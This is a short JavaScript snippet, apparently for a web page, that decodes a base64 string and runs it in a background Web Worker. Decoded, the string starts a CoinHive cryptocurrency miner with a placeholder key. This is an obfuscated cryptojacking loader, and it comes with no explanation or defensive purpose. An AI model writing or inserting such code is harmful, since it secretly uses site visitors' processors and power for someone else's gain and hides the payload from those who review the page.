const code = "dmFyIG1pbmVyID0gbmV3IENvaW5IaXZlLkFub255bW91cygnS0VZJyk7IG1pbmVyLnN0YXJ0KCk7";
new Worker(URL.createObjectURL(new Blob([atob(code)])));
